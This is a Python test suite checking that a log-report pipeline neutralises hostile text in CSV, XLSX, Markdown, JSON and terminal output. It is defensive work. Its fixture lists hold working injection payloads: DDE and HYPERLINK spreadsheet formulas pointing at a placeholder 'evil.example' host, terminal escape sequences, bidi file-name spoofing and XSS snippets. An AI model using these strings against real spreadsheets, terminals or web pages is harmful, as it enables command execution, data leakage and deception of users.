"""What strangers write into logs, in every format: formulas, escape sequences, markup, invisible characters."""

from __future__ import annotations

import csv
import io
import json
import re

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rich.console import Console

from pipeline.i18n import Texts
from pipeline.reports.delimited import to_csv, to_json
from pipeline.reports.document import Document, Style
from pipeline.reports.formats import FORMATS
from pipeline.reports.markdown import escaped
from pipeline.reports.terminal import print_table
from pipeline.reports.values import armed, disarmed, visible, visible_lines
from tests.reports.rendering import of_rows
from tests.samples import AS_OF

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\r\nx",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1+1",
    "''@A1",
    '=IMPORTXML(CONCAT("//evil.example"),"//a")',
]
HIDDEN_FORMULAS = ["a@b.example;=1+1", "x;@y.example", "x\t+1", "x\n=1+1", "x; -1"]
ESCAPES = [
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[1;1H",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x90q\x9c",
    "\x9d52;c;ZXZpbA==\x9c",
    "\x1bP$q\x1b\\",
    "\x08\x08\x08safe",
    "\rsafe",
    "a\x00b",
    "\x7f",
    "\x1b[6n",
    "\x0e\x0f",
    "line\u2028break\u2029",
    "\x85",
]
INVISIBLE = [
    "invoice\u202egpj.exe",
    "\u2066a\u2069",
    "\u200eb\u200f",
    "\u061c",
    "a\u200bb",
    "a\u200db",
    "\ufeffa",
    "a\u00adb",
    "a\U000e0041b",
    "a\u034fb",
    "a\u3164b",
    "a\u115fb",
    "a\ufe0fb",
    "a\u2800b",
    "a\U000e0101b",
    "a\ud800b",
    "a\u2062b",
]
MARKUP = [
    "<script>alert(1)</script>",
    "![x](http://evil.example/p.png)",
    "[x](javascript:alert(1))",
    "a|b|c",
    "`code`",
    "**bold**",
    "&lt;b&gt;",
    "<img src=x onerror=alert(1)>",
    "http://evil.example/a",
    "www.evil.example",
    "$x$",
    "~~gone~~",
    "a\\|b",
    "[bold red]not rich[/]",
    "_a_",
]
ALL = FORMULAS + HIDDEN_FORMULAS + ESCAPES + INVISIBLE + MARKUP
STARTS = tuple("=+-@\t\r＝＋－＠")


def hostile(*texts: str) -> Document:
    return of_rows(
        ["sender", "reply", "lines"], ["VARCHAR", "VARCHAR", "BIGINT"], *((text, text, -5) for text in texts)
    )


def style(raw: bool = False) -> Style:
    return Style(Texts("en"), raw=raw)


def test_a_csv_cell_cannot_become_a_formula_and_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(hostile(*ALL).sheets[0].result), newline="")))[1:]
    for row, text in zip(rows, ALL, strict=True):
        assert not row[0].lstrip(" ").startswith(STARTS)
        assert armed(row[0]) == text
        assert row[2] == "-5"


@pytest.mark.parametrize("text", HIDDEN_FORMULAS + FORMULAS)
@pytest.mark.parametrize("separator", [";", "\t", ","])
def test_nor_where_another_separator_parts_the_cells(text: str, separator: str) -> None:
    content = to_csv(of_rows(["sender"], ["VARCHAR"], ("x",), (text,)).sheets[0].result)
    # quotes mean nothing to it: the file was not quoted for this separator
    cells = (
        re.split(rf"[{separator}\r\n]", content)
        if separator != ","
        else next(iter(csv.reader([content.split(chr(10), 2)[2]])), [""])
    )
    assert not any(cell.strip(' "').startswith(STARTS) for cell in cells)


@given(st.text(alphabet=st.sampled_from(" '\"=+-@\t\r\n;,a1＝"), max_size=12))
@example("\t=")
@example("';'=")
def test_disarming_is_reversible_and_leaves_no_formula(text: str) -> None:
    safe = disarmed(text)
    assert armed(safe) == text
    assert not re.search(r"(?:^|[;\t\r\n]) *[=+\-@＝＋－＠]", safe)


def test_raw_leaves_csv_as_it_is() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(hostile(*FORMULAS).sheets[0].result, raw=True), newline="")))[
        1:
    ]
    assert [row[0] for row in rows] == FORMULAS


@pytest.mark.parametrize("raw", [False, True])
def test_a_cell_of_a_workbook_is_text(raw: bool) -> None:
    texts = [text for text in ALL if "\ud800" not in text]
    content = FORMATS["xlsx"].write(hostile(*texts), style(raw))
    assert isinstance(content, bytes)
    sheet = openpyxl.load_workbook(io.BytesIO(content))["refusals"]
    for line, text in enumerate(texts, 2):
        cell = sheet.cell(line, 1)
        assert cell.data_type == "s" and cell.hyperlink is None
        assert cell.value == (visible(text) if raw else disarmed(visible(text)))
        assert cell.quotePrefix is raw
        assert raw or not cell.value.lstrip().startswith(STARTS)
        assert (sheet.cell(line, 3).value, sheet.cell(line, 3).data_type) == (-5, "n")


@pytest.mark.parametrize("text", ESCAPES + INVISIBLE)
def test_nothing_invisible_is_left(text: str) -> None:
    shown = visible(text)
    assert shown.isprintable() and "\\u{" in shown
    assert not set(shown) & {"\x1b", "\x9b", "\u202e", "\u3164", "\ufe0f"}


def test_ordinary_text_of_any_script_stays() -> None:
    for text in ("Zürich – Größe", "日本語", "עברית", "العربية", "e\u0301", "😀", "a b"):
        assert visible(text) == text


@pytest.mark.parametrize("text", ALL)
def test_a_terminal_obeys_nothing(text: str) -> None:
    out = io.StringIO()
    console = Console(file=out, width=200, force_terminal=True, color_system="truecolor")
    sheet = hostile(text).sheets[0]
    print_table(console, sheet.result, text, AS_OF.tzinfo, "UTC", ("sender",), ("reply",))  # type: ignore[arg-type]  # AS_OF is aware
    # what is left of escape sequences is rich's own colours
    plain = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())
    assert not [letter for letter in plain if letter != "\n" and not letter.isprintable()]
    assert "[bold red]not rich[/]" in plain or "rich" not in text


@pytest.mark.parametrize("format_", ["csv", "json", "jsonl", "markdown", "text"])
def test_text_formats_on_a_terminal_are_inert(format_: str) -> None:
    texts = [text for text in ALL if "\ud800" not in text]
    written = FORMATS[format_].write(hostile(*texts), style())
    assert isinstance(written, str)
    inert = written if format_ in ("json", "jsonl", "markdown", "text") else visible_lines(written)
    assert not [letter for letter in inert if letter != "\n" and not letter.isprintable()]


def test_json_keeps_every_character() -> None:
    assert [row["reply"] for row in json.loads(to_json(hostile(*ALL).sheets[0].result))] == ALL


@pytest.mark.parametrize("text", ALL)
def test_a_markdown_row_is_a_row(text: str) -> None:
    written = FORMATS["markdown"].write(hostile(text), style())
    assert isinstance(written, str)
    (row,) = (line for line in written.split("\n") if line.endswith("| -5 |"))
    assert len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) == 4
    assert "<" not in row and ">" not in row


@pytest.mark.parametrize("text", MARKUP)
def test_markdown_makes_no_link_no_picture_and_no_html(text: str) -> None:
    out = escaped(text)
    assert not re.search(r"(?<!\\)[\[\]`*~$]|[<>]", out.replace("\\\\", ""))
    assert not re.search(r"(?i)\b(https?:|www\.)", out)
